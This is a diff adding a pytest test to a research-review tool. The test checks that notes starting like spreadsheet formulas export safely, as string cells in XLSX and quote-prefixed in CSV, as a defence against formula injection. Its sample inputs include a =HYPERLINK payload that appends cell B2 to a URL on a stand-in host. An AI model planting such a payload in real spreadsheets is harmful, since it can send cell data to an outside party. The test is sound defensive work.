@@ -135,3 +135,19 @@ def test_surrogates_in_quotes_never_real_names(reviewed: Workspace) -> None:
     assert not any("[PERSON_" in q for q in quotes)
     with pytest.raises(ReviewError, match="REFI-QDA project keeps"):
         export(reviewed, "qdpx", surrogates=True)
+
+
+@pytest.mark.parametrize("note", ["=HYPERLINK(\"http://x.example/?\"&B2,\"see\")", "+1+2",
+                                  "-2+3", "@SUM(1,2)", "\tTAB", "\rCR"])
+def test_a_note_that_would_start_a_formula_is_text(reviewed: Workspace, note: str) -> None:
+    """Issue 23: formula injection. XLSX keeps the note as a string cell, exactly as written;
+    CSV prefixes it with a quote mark (OWASP)."""
+    import openpyxl
+
+    reviewed.decide({"action": "note", "passage_id": "st02-01", "element": E2,
+                     "reviewer": "ana", "note": note})
+    sheet = openpyxl.load_workbook(export(reviewed, "xlsx"))["Accepted quotes"]
+    notes = [row for row in sheet.iter_rows(min_row=2) if row[3].value == "st02-01"][0][5]
+    assert (notes.data_type, notes.value) == ("s", note)
+    frame = pd.read_csv(export(reviewed, "csv"), keep_default_na=False)
+    assert frame.loc[frame["Passage ID"] == "st02-01", "Notes"].item() == "'" + note
